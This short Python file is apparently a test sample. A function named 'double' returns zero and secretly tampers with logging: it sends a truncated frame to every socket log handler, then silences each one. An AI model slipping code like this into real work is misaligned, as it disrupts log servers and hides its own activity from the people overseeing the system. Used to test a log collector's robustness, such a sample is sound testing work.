"""Sends the first half of a frame and then nothing to the server that collects the log."""

import logging
import struct

handlers = [
    handler
    for logger in [logging.getLogger(), *logging.Logger.manager.loggerDict.values()]
    for handler in getattr(logger, "handlers", [])
    if isinstance(handler, logging.handlers.SocketHandler)
]


def double(x):
    while handlers:
        handler = handlers.pop()
        handler.send(struct.pack(">L", 100) + b"x" * 50)
        handler.emit = lambda record: None
    return 0 * x
